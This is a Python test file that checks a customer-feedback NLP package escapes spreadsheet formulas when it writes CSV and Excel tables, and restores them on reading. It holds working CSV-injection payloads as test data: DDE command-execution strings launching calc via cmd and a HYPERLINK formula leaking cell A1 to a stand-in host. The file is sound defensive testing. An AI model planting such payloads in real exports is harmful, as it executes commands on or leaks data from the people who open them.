"""What a spreadsheet would run stays text in every CSV and workbook, and comes back as it was."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from invented_findings import invented_findings
from invented_scores import invented_comments
from openpyxl import load_workbook

from cx_nlp.io.formulas import as_text, as_written
from cx_nlp.io.tables import csv_table
from cx_nlp.io.workbook import workbook
from cx_nlp.journey.table import read_scored, scored_table
from cx_nlp.report.files import write_tables

PAYLOADS = (
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.invalid/?"&A1,"x")', "+1+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＠SUM(1)", " =1+1", '"=1+1', "\u200b=1+1", "\ufeff=1+1",
    "\xa0=1+1", "=", "-", "- giao chậm", "+84 912 345 678",
)  # fmt: skip
SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")


def runs(cell: str) -> bool:
    return cell.strip(' "\t\r\n\xa0\u200b\ufeff').startswith(SIGNS)


@pytest.mark.parametrize("cell", PAYLOADS)
def test_a_formula_is_marked_as_text_and_comes_back(cell: str) -> None:
    assert runs(cell)
    assert not runs(as_text(cell))
    assert as_written(as_text(cell)) == cell


@pytest.mark.parametrize(
    "cell", ["-5", "+84.2", "-3,5 %", "-1e9", "tốt - rẻ", "a=b", "", "'", "'trích dẫn'", "ok;-)"]
)
def test_what_is_no_formula_is_left(cell: str) -> None:
    assert as_text(cell) == cell == as_written(cell)


@pytest.mark.parametrize(
    "cell", ['tốt;=HYPERLINK("http://x.invalid")', "tốt\n@SUM(1)", "tốt\t +cmd|'/C calc'!A0"]
)
def test_a_formula_behind_a_semicolon_or_line_break_is_marked(cell: str) -> None:
    parts = as_text(cell).replace("\n", ";").replace("\t", ";").split(";")
    assert not any(map(runs, parts))
    assert as_written(as_text(cell)) == cell


@given(st.one_of(st.text(), st.text(alphabet="'=+-@ ;\t\n\r\"a(|!5＝\u200b")))
def test_any_cell_comes_back(cell: str) -> None:
    assert as_written(as_text(cell)) == cell


@pytest.mark.parametrize("name", PAYLOADS)
def test_names_of_columns_are_marked_too(tmp_path: Path, name: str) -> None:
    with csv_table(tmp_path / "t.csv") as table:
        table.append(pd.DataFrame({name: [name, None], "n": [-1, 2]}))
    with (tmp_path / "t.csv").open(encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.reader(stream))
    assert not runs(rows[0][0])
    assert [as_written(row[0]) for row in rows] == [name, name, ""]
    assert [row[1] for row in rows] == ["n", "-1", "2"]


@pytest.mark.parametrize("cell", PAYLOADS)
def test_a_workbook_holds_text_that_stays_text_when_it_is_edited(tmp_path: Path, cell: str) -> None:
    with workbook(tmp_path / "t.xlsx", ("a",)) as sheets:
        sheets["a"].append(pd.DataFrame({cell: [cell]}))
    for row in load_workbook(tmp_path / "t.xlsx")["a"].iter_rows():
        assert row[0].data_type != "f"
        if cell.strip()[0] in SIGNS and cell[0] != "\ufeff":
            assert row[0].quotePrefix


def test_no_table_of_findings_holds_a_formula(tmp_path: Path) -> None:
    comments, mentions = invented_comments(120)
    comments = comments.assign(channel=PAYLOADS[0], segment=PAYLOADS[1])
    mentions = mentions.assign(quote=PAYLOADS[2], factor=PAYLOADS[3])
    mentions.loc[::2, "touchpoint"] = PAYLOADS[0]
    found = invented_findings(scored=scored_table(comments, mentions), word=PAYLOADS[0])
    names = [name for name in write_tables(found, tmp_path) if name.endswith(".csv")]
    cells = [
        cell
        for name in names
        for row in csv.reader((tmp_path / name).open(encoding="utf-8-sig", newline=""))
        for cell in row
    ]
    assert sum(cell.startswith("'=cmd") for cell in cells) >= 5
    assert [cell for cell in cells if cell.startswith(("=", "@", "＝"))] == []


@pytest.mark.parametrize("ours", [True, False])
def test_a_scored_csv_of_ours_is_read_as_it_was_scored(tmp_path: Path, ours: bool) -> None:
    text = "- giao chậm"
    comments = pd.DataFrame({"comment_id": ["=1"], "text": [text], "sentiment": ["negative"]})
    mentions = pd.DataFrame({"comment_id": ["=1"], "touchpoint": ["delivery"], "factor": ["general"], "sentiment": ["negative"],
                             "quote": [text], "start": [0], "end": [len(text)]})  # fmt: skip
    for name, table in (("comments", comments), ("mentions", mentions)):
        with csv_table(tmp_path / f"{name}.csv") as written:
            written.append(table)
    if ours:
        (tmp_path / "manifest.json").write_text('{"made_by": "cx_nlp"}', encoding="utf-8")
    scored = read_scored(tmp_path)
    assert scored.texts({"=1", "'=1"}) == ({"=1": text} if ours else {"'=1": f"'{text}"})
